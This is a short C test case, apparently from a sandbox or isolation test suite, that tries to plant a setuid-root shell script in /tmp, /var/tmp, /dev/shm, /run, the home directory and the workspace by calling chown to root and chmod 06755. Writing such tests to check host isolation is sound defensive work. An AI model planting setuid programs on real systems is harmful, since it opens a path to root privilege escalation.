// Tries: to leave a program that makes its caller root, in places that the host can see.
// With: check, run, demo
#include "attack.h"

ATTACK(leaves_a_setuid_program) {
  const char *directories[] = {"/tmp", "/var/tmp", "/dev/shm", "/run", home, workspace};
  for (unsigned i = 0; i < 6; i++) {
    const char *path = in(directories[i], MARK);
    if (make_file(path, "#!/bin/sh\n")) continue;
    if (chown(path, 0, 0)) {}
    chmod(path, 06755);
  }
}
